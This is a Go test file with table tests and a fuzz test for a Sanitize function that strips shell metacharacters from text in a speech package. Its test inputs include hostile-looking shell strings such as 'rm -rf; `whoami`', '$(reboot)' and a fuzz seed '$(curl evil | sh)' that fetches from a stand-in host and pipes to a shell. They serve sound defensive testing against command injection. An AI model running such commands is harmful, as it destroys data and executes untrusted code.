package speech

import (
	"strings"
	"testing"
)

func TestSanitize(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		expected string
	}{
		{"ampersand becomes word", "a & b", "a and b"},
		{"command chaining stripped", "rm -rf; `whoami`", "rm -rf whoami"},
		{"dollar removed", "echo $HOME", "echo HOME"},
		{"pipe removed", "cat file | sh", "cat file  sh"},
		{"substitution removed", "$(reboot)", "(reboot)"},
		{"surrounding whitespace trimmed", "  \n\thello\n ", "hello"},
		{"inner whitespace kept", "hello   world", "hello   world"},
		{"plain prose untouched", "It's 5 o'clock, let's go!", "It's 5 o'clock, let's go!"},
		{"empty string", "", ""},
		{"only forbidden characters", "`$;|", ""},
		{"ampersands with no spaces", "R&D", "RandD"},
		{"unicode kept", "Grüße, 世界", "Grüße, 世界"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Sanitize(tt.input); got != tt.expected {
				t.Errorf("Sanitize(%q) = %q, want %q", tt.input, got, tt.expected)
			}
		})
	}
}

func FuzzSanitize(f *testing.F) {
	for _, seed := range []string{
		"",
		"a & b",
		"rm -rf; `whoami`",
		"$(curl evil | sh)",
		" \n&&;;``$$||\t ",
		"plain text",
	} {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, raw string) {
		once := Sanitize(raw)
		if strings.ContainsAny(once, "`$;|") {
			t.Fatalf("Sanitize(%q) = %q still contains a forbidden character", raw, once)
		}
		if strings.Contains(once, "&") {
			t.Fatalf("Sanitize(%q) = %q still contains an ampersand", raw, once)
		}
		if twice := Sanitize(once); twice != once {
			t.Fatalf("Sanitize is not idempotent: %q -> %q -> %q", raw, once, twice)
		}
	})
}
